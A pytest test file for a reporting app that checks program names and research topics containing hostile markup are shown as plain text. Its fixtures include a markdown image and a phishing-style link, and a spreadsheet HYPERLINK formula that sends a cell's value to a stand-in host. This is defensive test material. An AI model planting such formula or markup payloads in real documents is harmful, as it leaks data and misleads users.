"""Program names and free text holding markdown, plotly markup or spreadsheet formulas arrive as inert text: in the
report's key figures, the view choosers, chart names, the HTML report and the NIH workbook. (The browser check that
nothing is fetched or linked is reliability's; these read what the product sends.)"""

from __future__ import annotations

import csv
import io
import re
import shutil

import openpyxl
import pytest

from tests.conftest import SMALL, build, lazy_tabs, open_page, rendered

HOST = "http://127.0.0.1:8765"
IMAGE = f"![seen]({HOST}/md-image-program.png)"
PROGRAM = f"PhD {IMAGE} [Sign in again]({HOST}/phish) <a href=\"{HOST}/plotly-link\">Click</a>"
FORMULA = f'=HYPERLINK("{HOST}/?leak="&A2,"Imaging of vessels")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The small fixture with a program named with markdown and plotly markup, another named as a formula, and a
    research topic that is a formula."""
    tmp = tmp_path_factory.mktemp("hostile")
    source = tmp / "src"
    shutil.copytree(SMALL, source)
    for name, column, key, value in (("programs", "program_name", "p_phd", PROGRAM),
                                     ("programs", "program_name", "p_post", f'=HYPERLINK("{HOST}/x","Fellowship")'),
                                     ("trainees", "research_topic", None, FORMULA)):
        rows = list(csv.DictReader((source / f"{name}.csv").open(encoding="utf-8")))
        for row in rows:
            if key is None or row[name[:-1] + "_id"] == key:
                row[column] = value
        with (source / f"{name}.csv").open("w", newline="", encoding="utf-8") as f:
            writer = csv.DictWriter(f, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    assert build(source, tmp / "wh").outcome == "published"
    return tmp / "wh"


def test_the_reports_key_figures_show_a_hostile_program_name_as_text(hostile, monkeypatch):
    monkeypatch.setenv("WAREHOUSE_DIR", str(hostile))
    at = open_page("reports", role="leadership")  # the first section: key figures
    labels = list(at.table[0].value.index)
    assert not [label for label in labels if IMAGE in label or "](http" in label]
    assert any(PROGRAM in rendered(label) for label in labels)  # the name itself, as the reader sees it


def test_view_choosers_show_a_hostile_program_name_as_text(hostile, monkeypatch):
    monkeypatch.setenv("WAREHOUSE_DIR", str(hostile))
    at = open_page("tracks", role="leadership")
    raw = [group.options for group in at.get("button_group") if group.key == "tracks_program"][0]
    assert not any(IMAGE in label for label in raw)
    assert PROGRAM in lazy_tabs(at)["tracks_program"].values()


def test_the_nih_workbook_holds_no_live_formula(hostile):
    from etl import pipeline
    from reports import nih

    workbook = openpyxl.load_workbook(io.BytesIO(nih.nih_workbook(pipeline.published(hostile).path)))
    formulas = sorted({(ws.title, cell.value) for ws in workbook for row in ws.iter_rows() for cell in row
                       if cell.data_type == "f"})
    assert formulas == []
    texts = [cell.value for ws in workbook for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert "'" + FORMULA in texts  # the topic, kept as text


def test_the_report_html_draws_a_hostile_program_name_as_text_not_plotly_markup(hostile):
    from reports.__main__ import main

    out = hostile.parent / "report.html"
    assert main(["build", "--year", "2022", "--format", "html", "--out", str(out), "--warehouse", str(hostile)]) == 0
    document = out.read_text(encoding="utf-8")
    assert re.findall(r'"name":"([^"]*?u003ca href[^"]*)"', document) == []  # plotly.io writes < as \u003c
    assert "&lt;a href" in document  # the name is there, its markup escaped
